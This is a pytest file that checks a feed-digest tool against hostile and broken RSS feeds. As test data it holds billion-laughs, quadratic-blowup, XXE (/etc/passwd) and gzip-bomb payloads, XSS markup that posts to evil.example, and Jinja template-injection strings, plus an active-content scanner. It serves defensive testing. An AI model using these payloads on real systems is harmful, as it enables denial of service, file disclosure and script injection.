"""Hostile and broken feeds, each served from 127.0.0.1 next to a good feed.

For every case: the build exits 0, names the bad feed once on stderr, keeps
the good feed's story, and the HTML part carries no active content (checked
by parsing it). A last test puts every case in one config and measures the
peak memory of the build process.
"""

from __future__ import annotations

import email
import email.policy
import functools
import gzip
import json
import subprocess
import sys
import textwrap
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest

from conftest import FEEDS, email_parts, parse_email, rss, rss_item, write_config
from loopback import Handler, LoopbackServer, respond

NOW = "2025-01-02T20:00:00Z"
GOOD_TITLE = "Good feed keeps working"

# ------------------------------------------------------------ the cases


def xml_feed(title: str, description: str, doctype: str = "", item_title: str | None = None) -> bytes:
    return textwrap.dedent(f"""\
        <?xml version="1.0" encoding="UTF-8"?>
        {doctype}
        <rss version="2.0"><channel><title>{title}</title><link>https://bad.example/</link>
        <item><title>{item_title or title + " item"}</title><link>https://bad.example/{abs(hash(title))}</link>
        <pubDate>Thu, 02 Jan 2025 12:00:00 +0000</pubDate><description>{description}</description></item>
        </channel></rss>""").encode()


BILLION_LAUGHS = xml_feed("Laughs", "&lol9;", doctype="<!DOCTYPE rss [<!ENTITY lol \"lol\">" + "".join(
    f"<!ENTITY lol{i} \"{('&lol' + (str(i - 1) if i > 1 else '') + ';') * 10}\">" for i in range(1, 10)) + "]>")
QUADRATIC = xml_feed("Quadratic", "&a;" * 20000, doctype=f"<!DOCTYPE rss [<!ENTITY a \"{'x' * 50000}\">]>")
XXE = xml_feed("External", "secret: &xxe;", doctype='<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')
ACTIVE = rss(rss_item(
    "Active <script>alert(1)</script> content",
    "javascript:alert(document.cookie)",
    body=('<p onclick="steal()">Hi<script>alert(1)</script></p><iframe src="https://evil.example/"></iframe>'
          '<form action="https://evil.example/"><input name="pw"><button>Go</button></form>'
          '<style>body{display:none}</style><a href="javascript:alert(1)">click</a>'
          '<a href="data:text/html;base64,PHNjcmlwdD4=">data</a><img src="data:image/png;base64,AAAA">'
          '<img src="https://tracker.example/open.gif" width="1" height="1">'
          '<svg onload="alert(1)"><circle r="5"/></svg><object data="https://evil.example/x.swf"></object>'
          '<p style="background:url(javascript:alert(1))">styled</p>'),
    extra="<author>mallory@example.org (&lt;img src=x onerror=alert(1)&gt;Mallory)</author>",
), title="Active Content").encode()
JINJA = rss(rss_item(
    "{{ 7*7 }} and {% raw %}{{ config }}",
    "https://bad.example/jinja",
    body="<p>{{ ''.__class__.__mro__[1].__subclasses__() }} {% for x in range(9) %}{{ x }}{% endfor %}</p>",
    extra="<dc:creator>{{ self._TemplateReference__context }}</dc:creator>",
), title="Template Injection").encode()
MALFORMED = (b'<?xml version="1.0"?>\n<rss version="2.0"><channel><title>Sloppy & Co</title>'
             b"<item><title>Recovered item & more</title><link>https://bad.example/rec</link>"
             b"<pubDate>Thu, 02 Jan 2025 12:00:00 +0000</pubDate><description><p>unclosed <b>bold</description>"
             b"</item></channel>")
LATIN1 = ('<?xml version="1.0"?><rss version="2.0"><channel><title>Caf\xe9 Zeitung</title>'
          "<item><title>Gr\xfc\xdfe aus K\xf6ln, sagt der Caf\xe9besitzer</title><link>https://bad.example/latin</link>"
          "<pubDate>Thu, 02 Jan 2025 12:00:00 +0000</pubDate><description>\xc4rger \xfcber Stra\xdfen</description>"
          "</item></channel></rss>").encode("latin-1")
CP1251 = ('<?xml version="1.0"?><rss version="2.0"><channel><title>Новости</title>'
          "<item><title>В Киеве открыли новую линию метро до Троещины</title><link>https://bad.example/metro</link>"
          "<pubDate>Thu, 02 Jan 2025 12:00:00 +0000</pubDate><description>Первые поезда пошли утром в пятницу, "
          "сообщили в городской администрации.</description></item></channel></rss>").encode("cp1251")
HTML_PAGE = b"<!doctype html><html><head><title>Just a page</title></head><body><p>No feed here.</p></body></html>"


def _gzip_bomb(size: int = 200 * 1024 * 1024) -> bytes:
    zeros = b"\0" * (1024 * 1024)
    out = gzip.compress(b"", compresslevel=9)  # header only; rebuilt below
    import zlib

    packer = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS | 16)
    out = b"".join(packer.compress(zeros) for _ in range(size // len(zeros))) + packer.flush()
    return out


def route_bytes(body: bytes, content_type: str = "application/rss+xml", headers: dict | None = None):
    return lambda handler: respond(handler, 200, body, {"Content-Type": content_type, **(headers or {})})


def route_status(status: int):
    return lambda handler: respond(handler, status, b"nope", {"Content-Type": "text/plain"})


def route_hang(handler: Handler) -> int:
    handler.server.stop.wait(30)
    return 0


def route_huge(handler: Handler) -> int:
    handler.send_response(200)
    handler.send_header("Content-Type", "application/rss+xml")
    handler.send_header("Content-Length", str(64 * 1024 * 1024))
    handler.end_headers()
    chunk = b"<!-- " + b"x" * (1024 * 1024 - 9) + b" -->"
    for _ in range(64):
        handler.wfile.write(chunk)
    return 200


@functools.cache
def _the_bomb() -> bytes:
    return _gzip_bomb()


def route_bomb(handler: Handler) -> int:
    return respond(handler, 200, _the_bomb(), {"Content-Type": "application/rss+xml", "Content-Encoding": "gzip"})


# name: (route, what the one stderr line about the bad feed says, whether its story is kept too)
CASES = {
    "billion-laughs": (route_bytes(BILLION_LAUGHS), "malformed but readable", True),
    "quadratic-blowup": (route_bytes(QUADRATIC), "malformed but readable", True),
    "xxe": (route_bytes(XXE), "malformed but readable", True),
    "gzip-bomb": (route_bomb, "too large", False),
    "64mb-body": (route_huge, "too large", False),
    "hang": (route_hang, "timed out after 2s", False),
    "html-page": (route_bytes(HTML_PAGE, "text/html"), "not a feed", False),
    "404": (route_status(404), "HTTP 404 Not Found", False),
    "500": (route_status(500), "HTTP 500 Internal Server Error", False),
    "malformed-recoverable": (route_bytes(MALFORMED), "malformed but readable", True),
    "latin-1-undeclared": (route_bytes(LATIN1, "text/xml"), "malformed but readable", True),
    "cp1251-served-as-utf8": (route_bytes(CP1251, "application/rss+xml; charset=utf-8"),
                              "read as cp1251", True),
    "active-content": (route_bytes(ACTIVE), None, True),
    "jinja-syntax": (route_bytes(JINJA), None, True),
}


# ------------------------------------------------------------ checking HTML

_ACTIVE_TAGS = {"script", "iframe", "object", "embed", "form", "input", "button", "textarea", "select",
                "frame", "frameset", "base", "svg", "math", "applet", "audio", "video"}


class _Scan(HTMLParser):
    """Active content in a whole email document. The template's own <style>
    in the head and its inline style attributes are not feed content."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in _ACTIVE_TAGS:
            self.found.append(f"<{tag}>")
        if tag == "meta" and dict(attrs).get("http-equiv", "").lower() == "refresh":
            self.found.append("meta refresh")
        for name, value in attrs:
            value = (value or "").strip()
            if name.startswith("on"):
                self.found.append(f"{tag}[{name}]")
            if name in ("href", "src", "action", "background", "poster", "formaction") and value and not \
                    value.lower().startswith(("http://", "https://", "mailto:")):
                self.found.append(f"{tag}[{name}={value[:30]}]")
            if name == "style" and ("javascript:" in value.lower() or "url(" in value.lower()):
                self.found.append(f"{tag}[style={value[:30]}]")
        if tag == "img":
            sizes = dict(attrs)
            if sizes.get("width") in ("0", "1") or sizes.get("height") in ("0", "1"):
                self.found.append(f"tracking pixel {sizes.get('src')}")

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)


def scan(html: str) -> _Scan:
    scanner = _Scan()
    scanner.feed(html)
    scanner.close()
    return scanner


def test_the_scanner_finds_what_it_looks_for():
    found = scan('<a href="javascript:x">a</a><img src="https://t/p.gif" width="1"><p onclick="x">'
                 '<iframe></iframe><p style="background:url(javascript:x)">').found
    assert len(found) == 5


# ------------------------------------------------------------ one by one


def hostile_config(tmp_path: Path, server: LoopbackServer, names: list[str]) -> Path:
    server.routes["/good.xml"] = route_bytes(rss(rss_item(GOOD_TITLE, "https://good.example/story"), title="Good").encode())
    for name in names:
        server.routes[f"/{name}"] = CASES[name][0]
    if "gzip-bomb" in names:
        # Compressed before the build starts: made inside the first request
        # (200 MB through zlib), it took the 2 s fetch timeout on a loaded
        # machine and the feed failed as "timed out", not "too large".
        _the_bomb()
    feeds = "".join(f'\n[[feeds]]\nurl = "{server.url("/" + name)}"\nname = "{name}"\n' for name in ["good.xml", *names])
    return write_config(tmp_path, """\
        title = "Hostile Brief"
        timezone = "UTC"
        [email]
        to = ["me@example.org"]
        [fetch]
        timeout = "2s"
        """ + feeds)


@pytest.mark.parametrize("name", list(CASES))
def test_hostile_feed_is_contained(name, server, invoke, tmp_path):
    config = hostile_config(tmp_path, server, [name])
    started = time.monotonic()
    result = invoke("--config", str(config), "build", "--now", NOW)
    elapsed = time.monotonic() - started
    assert result.exit_code == 0, result.stderr
    assert elapsed < 15

    parts = email_parts(parse_email(result.stdout_bytes))
    html, text = parts["text/html"], parts["text/plain"]
    page = scan(html)
    assert page.found == [], page.found
    visible = " ".join(" ".join(page.text).split())
    assert GOOD_TITLE in visible and GOOD_TITLE in text

    _, message, kept = CASES[name]
    url = server.url(f"/{name}")
    lines = [line for line in result.stderr.splitlines() if url in line]
    if message:
        assert len(lines) == 1, result.stderr
        assert message in lines[0]
    else:
        assert lines == [], result.stderr  # clean enough that nothing needs saying
    assert ("2 stories" in text) == kept
    assert "root:" not in html + text  # /etc/passwd never comes in (XXE)
    assert "lollollol" not in html + text and "x" * 1000 not in html + text


def test_active_content_arrives_as_harmless_text(server, invoke, tmp_path):
    config = hostile_config(tmp_path, server, ["active-content", "jinja-syntax"])
    result = invoke("--config", str(config), "build", "--now", NOW, "--format", "json")
    items = {item["feed"]: item for item in json.loads(result.stdout)["items"]}
    active = items["active-content"]
    assert active["link"] == ""  # the javascript: link is dropped, not linked
    assert active["author"] == "Mallory"
    assert active["title"] == "Active content"  # markup in a title is dropped, script and all
    jinja = items["jinja-syntax"]
    assert jinja["title"] == "{{ 7*7 }} and {% raw %}{{ config }}"
    assert jinja["author"] == "{{ self._TemplateReference__context }}"
    assert "{% for x in range(9) %}" in jinja["summary"]
    html = invoke("--config", str(config), "build", "--now", NOW, "--format", "html", "--offline").stdout
    visible = " ".join(" ".join(scan(html).text).split())
    assert "{{ 7*7 }} and {% raw %}{{ config }}" in visible
    assert "49" not in visible


def test_encodings_are_read_right(server, invoke, tmp_path):
    config = hostile_config(tmp_path, server, ["latin-1-undeclared", "cp1251-served-as-utf8"])
    result = invoke("--config", str(config), "build", "--now", NOW, "--format", "json")
    titles = {item["feed"]: item["title"] for item in json.loads(result.stdout)["items"]}
    assert titles["latin-1-undeclared"] == "Grüße aus Köln, sagt der Cafébesitzer"
    assert titles["cp1251-served-as-utf8"] == "В Киеве открыли новую линию метро до Троещины"


def test_recoverable_feed_keeps_its_items(server, invoke, tmp_path):
    config = hostile_config(tmp_path, server, ["malformed-recoverable"])
    result = invoke("--config", str(config), "build", "--now", NOW, "--format", "json")
    assert "Recovered item & more" in [item["title"] for item in json.loads(result.stdout)["items"]]


def test_all_hostile_feeds_in_one_config_stay_under_300_mb(server, tmp_path):
    config = hostile_config(tmp_path, server, list(CASES))
    runner = ("import resource, subprocess, sys; "
              "done = subprocess.run(sys.argv[1:], capture_output=True); "
              "print(done.returncode, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)")
    digest = [sys.executable, "-c", "from digest.cli import main; main()"]
    done = subprocess.run(
        [sys.executable, "-c", runner, *digest, "--config", str(config), "--state", str(tmp_path / "s.db"),
         "build", "--now", NOW, "--format", "json"],
        capture_output=True, text=True, timeout=120,
    )
    code, peak_kb = map(int, done.stdout.split())
    assert code == 0
    print(f"all {len(CASES)} hostile feeds in one build: peak RSS {peak_kb // 1024} MB")
    assert peak_kb < 300 * 1024, f"peak RSS {peak_kb // 1024} MB"


def test_shared_malformed_captures_build(invoke, tmp_path):
    """The real malformed captures, as files: each is read or named, never fatal."""
    folder = FEEDS / "malformed"
    feeds = "".join(f'\n[[feeds]]\nurl = "{path}"\n' for path in sorted(folder.iterdir()))
    config = write_config(tmp_path, '[email]\nto = ["me@example.org"]\n' + feeds)
    result = invoke("--config", str(config), "build", "--now", NOW, "--since", "20000d", "--top", "100", "--format", "json")
    assert result.exit_code == 0, result.stderr
    with_items = {item["feed_url"] for item in json.loads(result.stdout)["items"]}
    for path in folder.iterdir():
        named = [line for line in result.stderr.splitlines() if path.as_uri() in line]
        assert path.as_uri() in with_items or len(named) == 1, path
    assert len(with_items) >= 6


def test_a_feed_malformed_the_same_way_is_warned_about_once_until_it_changes(invoke, tmp_path):
    feed = tmp_path / "loose.xml"
    broken = rss(rss_item("Trains run again", "https://example.org/trains")).replace("</channel>", "&nbspx;</channel>")
    feed.write_text(broken, encoding="utf-8")
    config = write_config(tmp_path, f'[email]\nto = ["me@example.org"]\n[[feeds]]\nurl = "{feed}"\n')

    def warnings(*flags):
        result = invoke(*flags, "--config", str(config), "build", "--now", NOW, "--format", "json")
        assert result.exit_code == 0, result.stderr
        return [line for line in result.stderr.splitlines() if "malformed but readable" in line]

    assert len(warnings()) == 1
    assert warnings() == []  # the next day's cron mail says nothing new
    assert len(warnings("-v")) == 1  # still there on request
    # A new item moves the fault's line; the fault is the same: still quiet.
    feed.write_text(broken.replace("<item>", "<item><title>More</title></item><item>", 1), encoding="utf-8")
    assert warnings() == []
    feed.write_text(broken.replace("&nbspx;", "<unclosed>"), encoding="utf-8")  # another fault: said again
    assert len(warnings()) == 1


# ------------------------------------------------------------ local files that are not files

DIGEST = [sys.executable, "-c", "from digest.cli import main; main()"]


def _limited(megabytes: int):
    import resource

    cap = megabytes * 1024 * 1024
    return lambda: resource.setrlimit(resource.RLIMIT_AS, (cap, cap))


def test_a_fifo_feed_times_out_like_http_and_the_rest_is_built(tmp_path):
    """A named pipe nobody writes to used to hang the whole build: open()
    waits for a writer. A local file gets the fetch timeout, as HTTP does."""
    import os

    good = tmp_path / "good.xml"
    good.write_text(rss(rss_item(GOOD_TITLE, "https://good.example/story")))
    fifo = tmp_path / "fifo.xml"
    os.mkfifo(fifo)
    config = write_config(tmp_path, f'[email]\nto = ["me@example.org"]\n[fetch]\ntimeout = "1s"\n'
                                    f'[[feeds]]\nurl = "{good}"\n[[feeds]]\nurl = "{fifo}"\n')
    started = time.monotonic()
    done = subprocess.run([*DIGEST, "--config", str(config), "--state", str(tmp_path / "s.db"), "build",
                           "--now", NOW, "--format", "json"], capture_output=True, text=True, timeout=30)
    assert done.returncode == 0, done.stderr
    assert time.monotonic() - started < 15
    assert [item["title"] for item in json.loads(done.stdout)["items"]] == [GOOD_TITLE]
    [line] = [line for line in done.stderr.splitlines() if fifo.as_uri() in line]
    assert "failed: timed out after 1s" in line


def test_a_fifo_with_a_writer_is_read_like_a_file(tmp_path):
    """A pipe that delivers (a generator script, `<(...)`) still works."""
    import os
    import threading

    fifo = tmp_path / "fifo.xml"
    os.mkfifo(fifo)
    # A daemon: should digest never open the pipe, the blocked writer must not
    # keep the test run from exiting (it held a CI run until its time ran out).
    writer = threading.Thread(target=lambda: fifo.write_text(rss(rss_item(GOOD_TITLE, "https://good.example/1"))),
                              daemon=True)
    writer.start()
    config = write_config(tmp_path, f'[email]\nto = ["me@example.org"]\n[[feeds]]\nurl = "{fifo}"\n')
    done = subprocess.run([*DIGEST, "--config", str(config), "--state", str(tmp_path / "s.db"), "build",
                           "--now", NOW, "--format", "json"], capture_output=True, text=True, timeout=30)
    writer.join(timeout=10)
    assert done.returncode == 0, done.stderr
    assert [item["title"] for item in json.loads(done.stdout)["items"]] == [GOOD_TITLE]


@pytest.mark.parametrize("kind", ["fifo nobody writes", "/dev/zero", "/dev/urandom"])
def test_a_config_that_is_not_a_file_is_one_line_not_a_hang_or_gigabytes(tmp_path, kind):
    import os

    if kind.startswith("/dev/"):
        config = Path(kind)
    else:
        config = tmp_path / "digest.toml"
        os.mkfifo(config)
    # The address space cap keeps today's main (12 GB for /dev/zero) from taking the machine.
    done = subprocess.run([*DIGEST, "--config", str(config), "--state", str(tmp_path / "s.db"), "build"],
                          capture_output=True, text=True, timeout=30, preexec_fn=_limited(1024))
    assert done.returncode == 2, done.stderr
    line = done.stderr.strip()
    assert "\n" not in line and line.startswith(f"Error: {config}: ")
    assert {"fifo nobody writes": "nothing to read for 5s", "/dev/zero": "larger than 4 MB: not a config file",
            "/dev/urandom": "larger than 4 MB"}[kind] in line


def test_a_local_picture_that_became_a_fifo_is_left_out_not_waited_for(tmp_path):
    """A local feed may name picture files beside it, which the store keeps
    by path; one that is a named pipe nobody writes to by the time the
    digest is rendered (an --offline build days later) hung the render."""
    import os

    (tmp_path / "images").mkdir()
    picture = tmp_path / "images" / "stuck.png"
    picture.write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 64)
    feed = tmp_path / "feed.xml"
    # No web <link> of its own: its pictures are the files beside it.
    feed.write_text(rss(rss_item(GOOD_TITLE, "https://good.example/1",
                                 extra='<media:content url="images/stuck.png" medium="image" width="600" height="400"/>'))
                    .replace("<link>https://example.org/</link>", "", 1))
    config = write_config(tmp_path, f'[email]\nto = ["me@example.org"]\n[[feeds]]\nurl = "{feed}"\n')
    build = [*DIGEST, "--config", str(config), "--state", str(tmp_path / "s.db"), "build", "--now", NOW]
    first = subprocess.run([*build, "--no-mark-sent"], capture_output=True, timeout=60)
    assert first.returncode == 0 and b"cid:picture-1.stuck.png" in first.stdout.replace(b"=\n", b"")
    picture.unlink()
    os.mkfifo(picture)
    started = time.monotonic()
    done = subprocess.run([*build, "--offline"], capture_output=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert time.monotonic() - started < 30
    message = email.message_from_bytes(done.stdout, policy=email.policy.default)
    assert GOOD_TITLE in message.get_body(("plain",)).get_content()
    assert b"stuck.png" not in done.stdout.replace(b"=\n", b"")
